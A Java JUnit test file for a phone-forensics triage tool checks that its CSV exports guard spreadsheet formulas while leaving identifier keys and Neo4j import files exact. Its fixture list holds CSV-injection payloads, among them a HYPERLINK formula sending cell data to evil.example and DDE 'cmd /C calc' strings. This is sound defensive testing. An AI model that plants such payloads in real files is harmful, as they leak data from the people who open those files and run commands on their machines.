package org.phonetriage.report;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.Connection;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.phonetriage.cli.BadInputTest;
import org.phonetriage.cli.Main;
import org.phonetriage.ingest.NetworkCaseBuilder;
import org.phonetriage.query.CsvRows;
import org.phonetriage.store.CaseDb;
import org.phonetriage.xref.XrefOptions;

/**
 * Every CSV phonetriage writes (csv/, i2/, neo4j/): keys byte-exact; hostile evidence text
 * formula-guarded in the CSVs a person opens in a spreadsheet, exact in Neo4j's import files and,
 * with {@code --no-formula-guard}, everywhere. The identifier columns are listed here on their own,
 * not taken from the writers, so a writer that forgets to declare one fails.
 */
class CsvFormulaGuardTest {

    private static final Map<String, List<String>> IDENTIFIER_COLUMNS = Map.of(
            "csv/devices.csv", List.of("owner_identifiers"),
            "csv/identifiers.csv", List.of("key"),
            "csv/links.csv", List.of("via"),
            "csv/occurrences.csv", List.of("key", "device_normalized"),
            "csv/timeline.csv", List.of("counterpart_keys", "alternative_keys"),
            "i2/links.csv", List.of("from_identity", "to_identity"),
            "neo4j/nodes.csv", List.of("id:ID(Identifier)", "key"),
            "neo4j/relationships.csv", List.of(":START_ID(Identifier)", ":END_ID(Identifier)"));

    /** Import files for Neo4j, which evaluates nothing: never guarded. */
    private static final List<String> NOT_SPREADSHEETS = List.of("neo4j/nodes.csv", "neo4j/relationships.csv");

    /** What a spreadsheet would evaluate: a leading = + - @ TAB CR, unless a plain number or a lone sign. */
    private static final Pattern FORMULA = Pattern.compile("[=+\\-@\\t\\r].*", Pattern.DOTALL);
    private static final Pattern HARMLESS = Pattern.compile("[+-]?\\d+(\\.\\d+)?|[+-]");
    /** A key or a list of keys: each E.164 or type:value, joined with ; or |. */
    private static final Pattern KEY = Pattern.compile("\\+\\d+|[a-z][a-z0-9-]*:.+");

    private static final List<String> HOSTILE = List.of(
            "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Open\")",
            "+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=2+2");

    @TempDir
    Path tmp;

    @Test
    void triageOfTheTestImagesWritesEveryKeyExact() throws Exception {
        Path out = tmp.resolve("out");
        BadInputTest.Run run = BadInputTest.Run.of(List.of("triage", "--format", "all", "--out", out.toString(),
                "--password", "phonetriage-demo", "--map", "test-images/D09-csv.map.yaml",
                "test-images/D01-android.tar", "test-images/D02-android.zip", "test-images/D03-android",
                "test-images/D04-android.ab", "test-images/D05-android", "test-images/D06-ufdr.ufdr",
                "test-images/D07-xry", "test-images/D08-axiom.xml", "test-images/D09-csv",
                "test-images/D10-ios-backup", "test-images/D11-ios-encrypted", "test-images/D12-ios-ffs.tar",
                "test-images/S01-sim"));
        assertTrue(run.exit() == Main.OK || run.exit() == Main.PROBLEMS, run.err());

        Counts counts = assertGuardedOnlyWhereNeeded(out);
        assertEquals(0, counts.guardedIdentifiers(), "no ' before any identifier");
        assertTrue(counts.e164() > 100, "identifier cells starting with + were checked: " + counts.e164());
        Map<String, String> d01 = rows(out, "csv/devices.csv").get(0);
        assertEquals("D01-android", d01.get("label"));
        assertEquals("+33612345678;email:rafa.teixeira.d01@example.com;iccid:89330124030001234569", d01.get("owner_identifiers"));
        assertTrue(rows(out, "csv/links.csv").stream().anyMatch(r -> r.get("via").equals("+33612345678 | +34612345678")));
    }

    @Test
    void hostileNamesBodiesAndLabelsAreGuardedAndTheirKeysAreNot() throws Exception {
        Path out = hostileOutputs();

        assertTrue(assertGuardedOnlyWhereNeeded(out).guardedIdentifiers() > 0, "the label -2+3 in i2's identity");
        for (String h : HOSTILE) {
            String guarded = "'" + h;
            assertTrue(column(out, "csv/occurrences.csv", "name").contains(guarded), h);
            assertTrue(column(out, "csv/identifiers.csv", "names").contains(guarded), h);
            assertTrue(column(out, "csv/timeline.csv", "body").contains(guarded), h);
            assertTrue(column(out, "i2/links.csv", "to_label").contains("'" + i2Label(h)), h);
            assertTrue(column(out, "neo4j/nodes.csv", "names:string[]").contains(h), "Neo4j gets it exact: " + h);
        }
        assertTrue(column(out, "csv/devices.csv", "label").contains("'-2+3"));
        assertTrue(column(out, "i2/links.csv", "from_identity").contains("'-2+3"),
                "a device label where a key is expected is no key, so it is guarded");
        assertTrue(column(out, "neo4j/nodes.csv", "key").contains("-2+3"));
        assertTrue(column(out, "csv/identifiers.csv", "key").contains("+33610000010"));
        assertTrue(column(out, "csv/devices.csv", "owner_identifiers")
                .contains("+33610000002;iccid:89330100000000000025"));
    }

    @Test
    void reportWithNoFormulaGuardWritesEveryCellExact() throws Exception {
        hostileOutputs();
        Path out = tmp.resolve("exact");
        BadInputTest.Run run = BadInputTest.Run.of(List.of("report", "--case", tmp.resolve("case.db").toString(),
                "--out", out.toString(), "--format", "csv,occurrences,timeline,i2,neo4j", "--no-formula-guard"));
        assertEquals(Main.OK, run.exit(), run.err());
        List<Path> files;
        try (Stream<Path> walk = Files.walk(out)) {
            files = walk.filter(f -> f.toString().endsWith(".csv")).toList();
        }
        for (Path file : files) {
            for (Map<String, String> row : CsvRows.parse(Files.readString(file))) {
                row.forEach((column, v) -> assertFalse(v.startsWith("'"), file + " " + column + ": " + v));
            }
        }
        for (String h : HOSTILE) {
            assertTrue(column(out, "csv/occurrences.csv", "name").contains(h), h);
            assertTrue(column(out, "csv/timeline.csv", "body").contains(h), h);
            assertTrue(column(out, "i2/links.csv", "to_label").contains(i2Label(h)), h);
        }
        assertTrue(column(out, "csv/devices.csv", "label").contains("-2+3"));
    }

    /** A case whose names, bodies and a device label are formulas, with all its outputs written (guard on). */
    private Path hostileOutputs() throws Exception {
        NetworkCaseBuilder network = new NetworkCaseBuilder(List.of("FR"));
        NetworkCaseBuilder.DeviceSpec a = network.device("A", "android").sim("89330100000000000017", "+33610000001", "208");
        NetworkCaseBuilder.DeviceSpec b = network.device("-2+3", "android").sim("89330100000000000025", "+33610000002", "208");
        for (int i = 0; i < HOSTILE.size(); i++) {
            String number = "+3361000001" + i;
            a.contact(HOSTILE.get(i), number).sms(number, "incoming", "2024-03-0" + (i + 1) + "T10:00:00Z", HOSTILE.get(i));
            b.contact(HOSTILE.get(i), number);
        }
        a.call("+33610000002", "outgoing", "2024-03-01T09:00:00Z", 10);
        Path caseFile = tmp.resolve("case.db");
        network.write(caseFile);
        Path out = tmp.resolve("out");
        try (Connection db = CaseDb.open(caseFile, false)) {
            CaseOutputs.write(db, out, "hostile", ZoneOffset.UTC, XrefOptions.DEFAULT, CaseOutputs.FORMATS,
                    new org.phonetriage.xref.AnalysisRunner(), p -> { });
        }
        return out;
    }

    /** Identifier cells starting with {@code +} (keys, left exact) and guarded ones (no keys). */
    private record Counts(int e164, int guardedIdentifiers) {
    }

    /**
     * Walks every CSV under {@code out}: identifier cells that a spreadsheet could evaluate are keys,
     * left exact, and a key is never guarded; every other cell a spreadsheet would evaluate is
     * guarded, and a guard stands only before such text.
     */
    private static Counts assertGuardedOnlyWhereNeeded(Path out) throws Exception {
        List<Path> files;
        try (Stream<Path> walk = Files.walk(out)) {
            files = walk.filter(f -> f.toString().endsWith(".csv")).sorted().toList();
        }
        assertTrue(files.size() >= 10, files.toString());
        int plus = 0;
        int guarded = 0;
        for (Path file : files) {
            String name = out.relativize(file).toString().replace('\\', '/');
            List<String> identifiers = IDENTIFIER_COLUMNS.getOrDefault(name, List.of());
            assertTrue(CsvRows.header(Files.readString(file)).containsAll(identifiers), name);
            if (NOT_SPREADSHEETS.contains(name)) {
                continue; // exact; what they hold is checked by the tests that write hostile text
            }
            for (Map<String, String> row : rows(out, name)) {
                for (Map.Entry<String, String> cell : row.entrySet()) {
                    String where = name + " " + cell.getKey() + ": " + cell.getValue();
                    String v = cell.getValue();
                    if (identifiers.contains(cell.getKey()) && v.startsWith("'")) {
                        assertFalse(isKeyList(v.substring(1)), "a guarded key: " + where);
                        assertTrue(isFormula(v.substring(1)), "guard before harmless text: " + where);
                        guarded++;
                    } else if (identifiers.contains(cell.getKey())) {
                        if (FORMULA.matcher(v).matches()) {
                            assertTrue(isKeyList(v), where);
                            plus++;
                        }
                    } else if (v.startsWith("'")) {
                        assertTrue(isFormula(v.substring(1)), "guard before harmless text: " + where);
                    } else {
                        assertFalse(isFormula(v), "unguarded formula: " + where);
                    }
                }
            }
        }
        return new Counts(plus, guarded);
    }

    /** i2 joins names with " | " and so escapes a | (and a backslash) inside one. */
    private static String i2Label(String name) {
        return name.replace("\\", "\\\\").replace("|", "\\|");
    }

    private static boolean isFormula(String v) {
        return FORMULA.matcher(v).matches() && !HARMLESS.matcher(v).matches();
    }

    private static boolean isKeyList(String v) {
        return Stream.of(v.split("[;|\u001F]")).map(String::strip).allMatch(k -> KEY.matcher(k).matches());
    }

    private static List<Map<String, String>> rows(Path out, String file) throws Exception {
        return CsvRows.parse(Files.readString(out.resolve(file)));
    }

    private static List<String> column(Path out, String file, String column) throws Exception {
        List<String> values = new ArrayList<>();
        rows(out, file).forEach(r -> values.add(r.get(column)));
        return values;
    }
}
